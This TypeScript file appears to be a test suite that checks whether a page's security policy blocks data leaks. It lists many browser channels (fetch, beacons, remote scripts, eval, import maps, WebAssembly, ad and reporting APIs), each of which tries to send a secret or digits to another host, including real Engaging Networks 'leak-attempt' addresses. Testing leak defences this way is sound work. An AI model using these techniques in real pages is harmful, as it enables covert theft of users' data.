import { call, get, inGroup, make, sent } from './attack.ts';
import { load, put, createElement, trust } from './put.ts';

const anywhere: RequestInit = { mode: 'no-cors' };

function ask(url: string, wait: boolean): Promise<'sent'> | undefined {
	const request = new XMLHttpRequest();
	request.open('POST', url, wait);
	const loaded = new Promise<'sent'>((resolve) => {
		request.addEventListener('load', () => resolve('sent'));
	});
	request.send('leak');
	return loaded;
}

function insertScript(text: string): void {
	const script = document.createElement('script');
	Reflect.set(script, 'text', trust('Script', text));
	put(script);
}

/** Plain requests, and code that is asked for. */
export const requestAttacks = inGroup('requests', [
	{
		id: 'fetch',
		title: 'A request to another host (fetch)',
		run: ({ url }) => fetch(url, anywhere).then(sent),
	},
	{
		id: 'fetch-own-site',
		title: 'A request to this site’s own host',
		run: ({ own }) => fetch(own, anywhere).then(sent),
	},
	{
		id: 'fetch-keepalive',
		title: 'A request that outlives the page',
		run: ({ url }) => fetch(url, { ...anywhere, keepalive: true, method: 'POST' }).then(sent),
	},
	{
		id: 'fetch-later',
		title: 'A request put off until later (fetchLater)',
		run: ({ url }) => call(globalThis, 'fetchLater', url, { activateAfter: 0 }),
	},
	{
		id: 'xhr',
		title: 'A request of the older kind (XMLHttpRequest)',
		run: ({ url }) => ask(url, true),
	},
	{
		id: 'xhr-waiting',
		title: 'The same, holding up everything meanwhile',
		run: ({ url }) => ask(url, false),
	},
	{
		id: 'beacon',
		title: 'A beacon',
		run: ({ url, secret }) => void navigator.sendBeacon(url, secret),
	},
	{
		id: 'other-data-centre',
		title: 'A request to a data centre of Engaging Networks that you did not choose',
		byDesign:
			'The browser’s rule names the address that checks keys at every data centre, since you choose one after the box is opened. What is put behind that address gets to Engaging Networks.',
		run: ({ digits }) =>
			fetch(
				`https://us2.engagingnetworks.app/ens/service/authenticate/leak-attempt/other-data-centre?${digits}`,
				anywhere
			).then(sent),
	},
	{
		id: 'data-centre-other-path',
		title: 'A request to another address at a data centre, where somebody else could pick it up',
		run: ({ digits }) =>
			fetch(`https://ca.engagingnetworks.app/leak-attempt/data-centre-other-path?${digits}`, {
				...anywhere,
				method: 'POST',
			}).then(sent),
	},
	{
		id: 'script',
		title: 'A script from another host',
		run: ({ url }) => load('script', { src: url }),
	},
	{
		id: 'script-own-site',
		title: 'A script from this site’s own host',
		run: ({ own }) => load('script', { src: own }),
	},
	{
		id: 'script-module',
		title: 'A module from another host',
		run: ({ url }) => load('script', { src: url, type: 'module' }),
	},
	{
		id: 'script-inline',
		title: 'A script written into the page, which then asks',
		run: ({ url }) => insertScript(`new Image().src = ${JSON.stringify(url)}`),
	},
	{
		id: 'eval',
		title: 'A text run as a program, which then asks',
		run: ({ url }) => {
			const code = trust('Script', `new Image().src = ${JSON.stringify(url)}`);
			return call(globalThis, 'eval', code);
		},
	},
	{
		id: 'import',
		title: 'Code that is fetched when needed (import)',
		run: ({ url }) => import(/* @vite-ignore */ url).then(sent),
	},
	{
		id: 'import-map',
		title: 'A map of names to other hosts (import map)',
		ends: 'frame',
		run: ({ url, digits }) => {
			/* Not the same each time: a bundler would look for a module of that name. */
			const name = `somewhere-else-${digits}`;
			const map = createElement('script', { type: 'importmap' });
			const text = JSON.stringify({ imports: { [name]: url } });
			Reflect.set(map, 'text', trust('Script', text));
			put(map);
			return import(/* @vite-ignore */ name).then(sent);
		},
	},
	{
		id: 'web-assembly',
		title: 'WebAssembly, compiled while it arrives',
		run: ({ url }) => WebAssembly.compileStreaming(fetch(url)),
	},
	{
		id: 'attribution',
		title: 'A report for advertising (attribution)',
		run: ({ url }) => fetch(url, Object.assign({ ...anywhere }, attribution)).then(sent),
	},
	{
		id: 'ad-auction',
		title: 'An auction of advertisements',
		run: ({ url }) =>
			call(
				navigator,
				'joinAdInterestGroup',
				{ owner: new URL(url).origin, name: 'leak', biddingLogicURL: url },
				60
			),
	},
	{
		id: 'shared-worklet',
		title: 'Storage that sites share',
		run: ({ url }) => call(get(get(globalThis, 'sharedStorage'), 'worklet'), 'addModule', url),
	},
	{
		id: 'reporting-observer',
		title: 'A report about the page, by a policy that names where to',
		ends: 'frame',
		breaksRule: true,
		run: ({ url }) => {
			const content = `img-src 'self'; report-uri ${url}`;
			put(createElement('meta', { 'http-equiv': 'Content-Security-Policy-Report-Only', content }));
			put(createElement('meta', { 'http-equiv': 'Content-Security-Policy', content }));
			put(createElement('img', { src: 'data:image/gif,report' }));
		},
	},
	{
		id: 'reporting-endpoints',
		title: 'A report about the page, by an endpoint that it names',
		ends: 'frame',
		breaksRule: true,
		run: ({ url }) => {
			const header = { 'http-equiv': 'Reporting-Endpoints', content: `default="${url}"` };
			put(createElement('meta', header));
			const content = "img-src 'self'; report-to default";
			put(createElement('meta', { 'http-equiv': 'Content-Security-Policy', content }));
			put(createElement('img', { src: 'data:image/gif,endpoint' }));
			make('ReportingObserver', () => undefined);
		},
	},
]);

const attribution = {
	attributionReporting: { eventSourceEligible: true, triggerEligible: false },
};
